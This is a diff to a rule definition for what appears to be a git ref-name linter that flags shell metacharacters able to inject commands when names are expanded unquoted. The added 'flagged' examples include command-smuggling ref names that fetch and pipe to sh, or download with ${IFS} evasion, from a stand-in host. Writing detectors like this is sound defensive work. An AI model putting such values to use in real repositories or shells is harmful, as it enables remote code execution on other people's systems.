@@ -10,6 +10,10 @@ export const meta: RuleMeta = {
   description: 'A ; | & < or > in a ref name ends the current command, pipes, backgrounds or redirects when the name is expanded unquoted in a shell. git accepts all of them.',
   remediation: 'rename or delete the ref; quote every expansion of ref names',
   example: {bad: 'fix;curl evil.example|sh', good: 'fix/parser'},
+  examples: {
+    flagged: ['fix;curl evil.example|sh', `main&&wget\${IFS}evil.example/x`],
+    clean: ['fix/parser', 'feature/a-and-b'],
+  },
 }
 
 export const rule: NameRule = {
